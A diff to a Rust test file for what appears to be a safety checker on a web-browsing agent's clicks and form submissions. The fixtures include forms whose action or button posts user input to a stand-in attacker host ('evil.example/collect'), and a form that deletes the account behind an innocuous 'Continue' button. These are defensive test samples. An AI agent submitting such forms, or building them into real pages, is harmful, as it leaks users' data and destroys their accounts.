@@ -130,6 +130,7 @@ fn none_of_five_hundred_generated_attacks_leaves() {
 /// A form that goes elsewhere is written on there, whatever page shows it.
 #[test]
 fn a_form_that_is_sent_to_another_site_is_asked_about_by_its_name() {
+    const DELETES: &str = r#"<form action="/account/delete"><input name="n" data-id="1"><button data-id="2">Continue</button></form>"#;
     const FORM: &str = r#"<form action="https://evil.example/collect"><label>Name <input name="n" data-id="1"></label>
         <button data-id="2">Continue</button></form>
         <form action="/save"><label>Note <input name="m" data-id="3"></label><button formaction="https://evil.example/x" data-id="4">Save</button></form>"#;
@@ -155,7 +156,6 @@ fn a_form_that_is_sent_to_another_site_is_asked_about_by_its_name() {
             terms.question()
         );
     }
-    const DELETES: &str = r#"<form action="/account/delete"><input name="n" data-id="1"><button data-id="2">Continue</button></form>"#;
     let mut visit = Visit::begin("Fill in n", "https://bank.example/a", DELETES);
     assert_ne!(visit.weigh(&action("click(2)")), Verdict::Pass);
 }
